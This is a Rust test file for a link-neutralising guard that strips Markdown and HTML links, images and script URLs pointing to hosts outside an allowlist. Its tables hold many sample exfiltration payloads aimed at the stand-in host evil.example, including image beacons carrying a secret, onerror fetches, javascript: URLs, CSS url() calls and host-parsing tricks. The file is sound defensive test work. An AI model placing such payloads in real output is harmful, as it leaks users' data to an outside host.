//! Tables of answers and what the guard must make of them.
use super::url::*;
use super::*;

fn allowed() -> Vec<String> {
    vec!["docs.example.com".to_string(), "*.cdn.example.com".to_string()]
}

fn check(name: &str, input: &str, want: &str) {
    let hosts = allowed();
    let out = neutralize_links(input, &hosts);
    assert_eq!(out, want, "case {name}");
    assert!(!out.contains("SECRET"), "case {name}: secret left in {out:?}");
    let again = neutralize_links(&out, &hosts);
    assert!(matches!(again, Cow::Borrowed(_)), "case {name}: not settled: {again:?}");
}

#[test]
fn markdown_links_and_images() {
    let cases = [
        ("allowed image", "![logo](https://docs.example.com/logo.png)", "![logo](https://docs.example.com/logo.png)"),
        (
            "disallowed image",
            "See ![x](https://evil.example/?q=SECRET) here",
            "See [image removed: host not allowed] here",
        ),
        ("link with title", "[docs](https://evil.example/SECRET \"Title\")", "docs [link removed: host not allowed]"),
        ("empty link", "[](https://evil.example/SECRET)", "[link removed: host not allowed]"),
        ("emphasis in link", "[**b** c](https://evil.example/SECRET)", "**b** c [link removed: host not allowed]"),
        (
            "nested blocked image",
            "[![i](https://evil.example/SECRET.png)](https://evil.example/)",
            "[image removed: host not allowed] [link removed: host not allowed]",
        ),
        (
            "nested allowed image",
            "[![i](https://docs.example.com/i.png)](https://evil.example/SECRET)",
            "![i](https://docs.example.com/i.png) [link removed: host not allowed]",
        ),
        (
            "blocked image in allowed link",
            "[![i](https://evil.example/SECRET)](docs/a.md)",
            "[[image removed: host not allowed]](docs/a.md)",
        ),
        (
            "reference image",
            "![chart][c]\n\n[c]: https://evil.example/c.png?SECRET\n",
            "[image removed: host not allowed]\n\n",
        ),
        (
            "reference link allowed",
            "[guide][g]\n\n[g]: https://docs.example.com/guide\n",
            "[guide][g]\n\n[g]: https://docs.example.com/guide\n",
        ),
        (
            "duplicate definition",
            "[a][r]\n\n[r]: https://docs.example.com/\n[r]: https://evil.example/SECRET\n",
            "[a][r]\n\n[r]: https://docs.example.com/\n",
        ),
        (
            "duplicate in list item",
            "- [a][r]\n- [r]: https://docs.example.com/\n- [r]: https://evil.example/SECRET\n",
            "- [a][r]\n- [r]: https://docs.example.com/\n- \n",
        ),
        ("unused definition", "text\n\n[u]: https://evil.example/SECRET \"t\"\n", "text\n\n"),
        ("autolink", "mail <https://evil.example/?SECRET> now", "mail [link removed: host not allowed] now"),
        ("email autolink kept", "write <help@example.com>", "write <help@example.com>"),
        ("javascript link", "[x](javascript:alert('SECRET'))", "x [link removed: host not allowed]"),
        ("data image", "![x](data:image/png;base64,SECRET)", "[image removed: host not allowed]"),
        ("file link", "[x](file:///etc/SECRET)", "x [link removed: host not allowed]"),
        ("mailto with query", "[m](mailto:a@b.example?body=SECRET)", "m [link removed: host not allowed]"),
        ("mailto kept", "[m](mailto:help@example.com)", "[m](mailto:help@example.com)"),
        ("userinfo trick", "![x](https://docs.example.com@evil.example/SECRET)", "[image removed: host not allowed]"),
        (
            "port userinfo trick",
            "[x](https://docs.example.com:443@evil.example/SECRET)",
            "x [link removed: host not allowed]",
        ),
        ("protocol relative", "![x](//evil.example/SECRET.png)", "[image removed: host not allowed]"),
        ("backslash", "![x](https:/\\evil.example/SECRET)", "[image removed: host not allowed]"),
        ("entity in destination", "![x](https&#58;//evil.example/SECRET)", "[image removed: host not allowed]"),
        ("uppercase allowed host", "![x](HTTPS://DOCS.EXAMPLE.COM/a.png)", "![x](HTTPS://DOCS.EXAMPLE.COM/a.png)"),
        ("uppercase evil host", "![x](https://EVIL.example/SECRET)", "[image removed: host not allowed]"),
        ("port and trailing dot", "[a](https://docs.example.com.:8443/a)", "[a](https://docs.example.com.:8443/a)"),
        ("wildcard subdomain", "![x](https://img.cdn.example.com/a.png)", "![x](https://img.cdn.example.com/a.png)"),
        ("wildcard apex", "![x](https://cdn.example.com/SECRET)", "[image removed: host not allowed]"),
        ("wildcard lookalike", "![x](https://evilcdn.example.com/SECRET)", "[image removed: host not allowed]"),
        (
            "relative links",
            "[r](docs/refunds.md) [a](#anchor) [u](../x.md) [q](?a=1)",
            "[r](docs/refunds.md) [a](#anchor) [u](../x.md) [q](?a=1)",
        ),
        (
            "code kept",
            "`![x](https://evil.example/?q=1)`\n\n```\n![x](https://evil.example/?q=1)\n```\n",
            "`![x](https://evil.example/?q=1)`\n\n```\n![x](https://evil.example/?q=1)\n```\n",
        ),
        ("bare url kept", "see https://evil.example/?q=1", "see https://evil.example/?q=1"),
        (
            "removal makes a link",
            "![a](https://evil.example/)(https://evil.example/?SECRET)",
            "image removed: host not allowed [link removed: host not allowed]",
        ),
    ];
    for (name, input, want) in cases {
        check(name, input, want);
    }
}

#[test]
fn raw_html() {
    let cases = [
        ("img block", "<img src=\"https://evil.example/p.png?SECRET\">", "[html removed]"),
        ("inline img", "a <img src='https://evil.example/?SECRET'> b", "a [html removed] b"),
        ("a href", "<a href=\"https://evil.example/SECRET\">click</a>", "[html removed]click</a>"),
        ("allowed img", "<img src=\"https://docs.example.com/x.png\">", "<img src=\"https://docs.example.com/x.png\">"),
        ("relative a", "a <a href=\"docs/x.md\">x</a>", "a <a href=\"docs/x.md\">x</a>"),
        ("script block", "<script>fetch('/SECRET')</script>\n\nafter", "[html removed]\n\nafter"),
        ("iframe", "<iframe src=\"docs/x.md\"></iframe>", "[html removed]"),
        ("base", "<base href=\"https://evil.example/\">", "[html removed]"),
        ("entity scheme", "<img src=\"https&#58;//evil.example/SECRET\">", "[html removed]"),
        ("hex entity", "<img src=\"&#x68;ttps://evil.example/SECRET\">", "[html removed]"),
        ("unknown entity", "<img src=\"https&colon&foo;//x\">", "[html removed]"),
        ("unquoted value", "<img src=https://evil.example/SECRET>", "[html removed]"),
        ("slash after name", "a <img src=x.png/ src=https://evil.example/SECRET> b", "a [html removed] b"),
        // Not HTML to CommonMark, but a tag to a browser if the answer is ever inserted as HTML.
        ("text to CommonMark, a tag to a browser", "<img/src=https://evil.example/q>", "[html removed]"),
        ("unquoted value with = and ?", "see <img src=https://evil.example/?d=S8> here", "see [html removed] here"),
        ("object with data", "<object data=https://evil.example/?d=1>", "[html removed]"),
        (
            "srcset",
            "<img src=\"https://docs.example.com/a.png\" srcset=\"https://evil.example/SECRET 2x\">",
            "[html removed]",
        ),
        ("event handler", "<img src=\"x.png\" onerror=\"fetch('SECRET')\">", "[html removed]"),
        ("style url", "<div style=\"background:url(https://evil.example/SECRET)\">x</div>", "[html removed]x</div>"),
        ("quoted gt", "<img alt=\"a>b\" src=\"https://evil.example/SECRET\">", "[html removed]"),
        (
            "tag over lines in quote",
            "> <div\n> style=\"background:url(//evil.example/SECRET)\">\n> hi\n",
            "> [html removed]\n> hi\n",
        ),
        ("unterminated", "<div title=\"x\n\ntext", "[html removed]\n\ntext"),
        ("comment kept", "<!-- note -->\n", "<!-- note -->\n"),
    ];
    for (name, input, want) in cases {
        check(name, input, want);
    }
}

#[test]
fn text_is_read_decoded_and_script_urls_go_everywhere() {
    let cases = [
        (
            "entity-escaped img tag",
            "query \"x &lt;img src=\"https&#58;//evil.example/?d=SECRET\"> y\" matched",
            "query \"x [html removed] y\" matched",
        ),
        ("escaped tag in emphasis", "*&lt;img src=//evil.example/SECRET>*", "*[html removed]*"),
        (
            "escaped allowed img kept",
            "&lt;img src=\"https://docs.example.com/a.png\">",
            "&lt;img src=\"https://docs.example.com/a.png\">",
        ),
        (
            "javascript url in a code span",
            "run `javascript:fetch('https://evil.example/?d='+SECRET)` now",
            "run [link removed: host not allowed] now",
        ),
        ("javascript url in text", "open javascript:alert(SECRET) now", "open [link removed: host not allowed] now"),
        (
            "entity hides the javascript colon",
            "open javascript&#58;alert(SECRET) now",
            "open [link removed: host not allowed] now",
        ),
        (
            "data url in a code block",
            "```\ndata:text/html;base64,SECRET\n```\n",
            "```\n[link removed: host not allowed]\n```\n",
        ),
        (
            "prose about javascript kept",
            "JavaScript: install the SDK. VBScript: no.",
            "JavaScript: install the SDK. VBScript: no.",
        ),
        ("prose about data kept", "Metadata: a map. Data: rows, data:1", "Metadata: a map. Data: rows, data:1"),
        (
            "code block with a foreign url kept",
            "```\ncurl https://api.stripe.com/v1\n```\n",
            "```\ncurl https://api.stripe.com/v1\n```\n",
        ),
    ];
    for (name, input, want) in cases {
        check(name, input, want);
    }
}

#[test]
fn unchanged_answers_are_borrowed() {
    let hosts = allowed();
    for answer in ["Refunds take 5 days.", "", "[ok](https://docs.example.com/a)", "`<img src=//evil>`"] {
        assert!(matches!(neutralize_links(answer, &hosts), Cow::Borrowed(_)), "{answer:?}");
    }
}

#[test]
fn endless_chains_fall_back_to_escaping() {
    let hosts = allowed();
    let answer = format!("![a](https://evil.example/){}", "(https://evil.example/)".repeat(12));
    let out = neutralize_links(&answer, &hosts);
    assert!(!out.contains('[') || out.contains("\\["), "{out:?}");
    assert!(matches!(neutralize_links(&out, &hosts), Cow::Borrowed(_)), "{out:?}");
}

#[test]
fn html_block_that_cannot_be_mapped_is_removed_whole() {
    let source = "> <img\n>  src=//evil.example/x>\n";
    let mut block = HtmlBlock::new(2..source.len());
    block.push(source, "<img\n", 2..7);
    block.push(source, "src=//evil.example/x>\n", 9..source.len());
    let edits = block.edits(source, &Allowlist::new(&allowed()));
    assert_eq!(apply(source, edits), "> [html removed]\n");
}

#[test]
fn classify_table() {
    let host = |h: &str| Target::Host(h.to_string());
    let cases = [
        ("docs/refunds.md", Target::Local),
        ("#anchor", Target::Local),
        ("../x.md", Target::Local),
        ("/abs/a:b", Target::Local),
        ("https://Docs.Example.com/a", host("docs.example.com")),
        ("  https://a.example:8080/x ", host("a.example")),
        ("https://a.example@b.example/", host("b.example")),
        ("https://b.example#@a.example", host("b.example")),
        ("https:b.example", host("b.example")),
        ("https:///b.example", host("b.example")),
        ("//b.example/x", host("b.example")),
        ("/\t/b.example/x", host("b.example")),
        ("http://[::1]:80/", host("::1")),
        ("https://b.example:x/", Target::Refused),
        // A browser decodes the host, and goes to evil.example: the allowlist judges that name.
        ("https://evil%2eexample/", Target::Host("evil.example".into())),
        // A lookalike host is looked up by its punycode, which no ASCII allowlist entry equals.
        ("https://\u{430}pple.example/", Target::Host("xn--pple-43d.example".into())),
        ("https://", Target::Refused),
        ("java\nscript:alert(1)", Target::Refused),
        ("a b:c", Target::Refused),
        ("mailto:a@b.example", Target::Mail),
        ("mailto:a@b.example?cc=x", Target::Refused),
        ("ftp://b.example/", Target::Refused),
    ];
    for (url, want) in cases {
        assert_eq!(classify(url), want, "{url:?}");
    }
}

/// URLs a browser reads differently from a naive reader: each row is what the WHATWG parser
/// makes of it, so a link cannot name one host to the guard and another to the browser.
#[test]
fn classify_as_browsers_do() {
    let host = |h: &str| Target::Host(h.to_string());
    let cases = [
        ("/docs/a.md", Target::Local),
        ("a.md", Target::Local),
        ("?q", Target::Local),
        ("//evil.com/x", host("evil.com")),
        ("\\\\evil.com/x", host("evil.com")),
        ("HTTPS://EXAMPLE.COM.", host("example.com")),
        ("https://allowed.com@evil.com/", host("evil.com")),
        ("https://evil.com\\@allowed.com", host("evil.com")),
        ("https:/\\evil.com", host("evil.com")),
        ("http://0x7f.1/", host("127.0.0.1")),
        ("http://2130706433/", host("127.0.0.1")),
        ("http://0x100000000/", Target::Refused),
        ("http://[0:0::1]/", host("::1")),
        ("ht\ttps://evil.com/", host("evil.com")),
        ("ht\r\ntps://evil.com/", host("evil.com")),
        ("https://b\u{fc}cher.example/", host("xn--bcher-kva.example")),
        ("https://B\u{dc}CHER.example/", host("xn--bcher-kva.example")),
        ("https://docs%2Eexample.com/", host("docs.example.com")),
        ("https://exa mple.com/", Target::Refused),
        ("java\tscript:alert(1)", Target::Refused),
        ("JaVaScRiPt:alert(1)", Target::Refused),
        (" \u{1}javascript:alert(1)", Target::Refused),
        ("java\0script:alert(1)", Target::Refused),
        ("\u{a0}javascript:alert(1)", Target::Refused),
        ("data:text/html,<script>", Target::Refused),
        ("mailto:a@b.example?", Target::Refused),
    ];
    for (url, want) in cases {
        assert_eq!(classify(url), want, "{url:?}");
    }
}

/// Allowlist entries are normalised as URL hosts are, so an entry matches however a link
/// spells the same host, and only that host.
#[test]
fn allowlist_matches_hosts_as_browsers_name_them() {
    let cases = [
        ("xn--bcher-kva.example", "https://b\u{fc}cher.example/a", true),
        ("b\u{fc}cher.example", "https://xn--bcher-kva.example/a", true),
        ("B\u{dc}cher.Example.", "https://b\u{fc}cher.example./a", true),
        ("*.b\u{fc}cher.example", "https://img.xn--bcher-kva.example/a", true),
        ("apple.example", "https://\u{430}pple.example/", false),
        ("example.com", "HTTPS://EXAMPLE.COM.", true),
        ("allowed.com", "https://allowed.com@evil.com/", false),
        ("allowed.com", "https://evil.com\\@allowed.com", false),
        ("allowed.com", "https:/\\allowed.com/a", true),
        ("127.0.0.1", "http://0x7f.1/", true),
        ("0x7f.1", "http://127.0.0.1/", true),
        ("::1", "http://[::1]:8080/", true),
        ("docs.example.com", "https://docs%2Eexample.com/", true),
        ("docs.example.com", "https://docs.example.com%2Eevil.com/", false),
    ];
    for (entry, url, want) in cases {
        let allow = Allowlist::new(&[entry.to_string()]);
        assert_eq!(allow.url(url), want, "{entry} / {url:?}");
    }
}
